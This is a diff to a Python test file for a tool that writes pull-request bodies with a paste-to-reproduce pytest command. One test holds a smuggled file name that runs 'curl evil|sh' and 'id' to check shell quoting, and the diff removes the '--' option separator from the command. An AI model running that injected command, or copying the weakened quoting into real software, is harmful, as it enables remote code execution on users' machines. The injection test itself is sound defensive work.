@@ -48,7 +48,7 @@ def proof(
         head_sha="c" * 40,
         runner="pytest",
         commands=Commands(
-            repro=("python", "-m", "pytest", "--junitxml=report.xml", "--", file),
+            repro=("python", "-m", "pytest", file),
             suite=("python", "-m", "pytest"),
         ),
         sandbox=SandboxFacts(kind="docker", image="python@sha256:abc", network="none"),
@@ -198,7 +198,7 @@ def test_a_pull_request_shows_red_green_and_how_to_see_it_yourself() -> None:
     assert "3 of 3 runs pass, each in a fresh sandbox." in body
     assert "before: 9 passed, 1 failed. With the fix: 10 passed, 1 failed." in body
     assert "Failing before already, and not counted: 1." in body
-    assert f"git fetch origin && git checkout {'c' * 40}\npython -m pytest -- tests/test_pages.py" in body
+    assert f"git fetch origin && git checkout {'c' * 40}\npython -m pytest tests/test_pages.py" in body
     assert f"| proof file, sha256 | `{'d' * 64}` |" in body
     assert "docker python@sha256:abc, network none |" in body
 
@@ -247,7 +247,7 @@ def test_the_command_to_paste_runs_nothing_but_the_test() -> None:
     evil = "tests/test_x;curl evil|sh #$(id)`id`.py"
     _, body = pull(of=proof(file=evil))
     command = next(line for line in body.splitlines() if line.startswith("python -m pytest"))
-    assert shlex.split(command) == ["python", "-m", "pytest", "--", evil]
+    assert shlex.split(command) == ["python", "-m", "pytest", evil]
 
 
 @pytest.mark.parametrize("title", ["a\nb", "a\r\nb", "a\u2028b", "a\x85b", "a\x0bb", " \t a   b "])
